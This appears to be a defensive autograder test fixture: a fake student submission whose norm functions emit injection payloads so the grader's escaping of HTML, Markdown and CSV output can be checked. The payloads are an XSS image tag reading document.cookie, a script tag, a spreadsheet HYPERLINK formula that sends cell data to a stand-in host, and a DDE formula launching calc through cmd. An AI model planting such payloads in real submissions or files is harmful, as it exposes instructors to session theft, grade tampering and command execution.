"""Attack: text that becomes markup or a formula in the instructor's outputs.

Tries: each function's failure message (an exception's text, a returned object's repr) is HTML
that runs script (<script>, <img onerror>) or a spreadsheet formula (=HYPERLINK, @SUM, +, -).
Would gain: script run in the instructor's browser when report.html or Gradescope's output is
opened (it could rewrite the grades shown), or a formula run when gradebook.csv or an LMS export
is opened in a spreadsheet.
Must stop it: every output escapes submission text for its format: HTML-escaped in report.html,
fenced in Markdown, and a CSV cell that starts like a formula prefixed so that it stays text.
"""


class _Markup:
    def __repr__(self):
        return "<img src=x onerror=alert(document.cookie)>"

    __str__ = __repr__


def l1_norm(x):
    raise ValueError("<script>alert('dlgrade')</script>")


def l2_norm(x):
    return _Markup()


def lp_norm(x, p):
    raise ValueError('=HYPERLINK("http://example.invalid/?"&A1,"click")')


def frobenius_norm(X):
    raise ValueError("@SUM(1+1)*cmd|' /C calc'!A0")

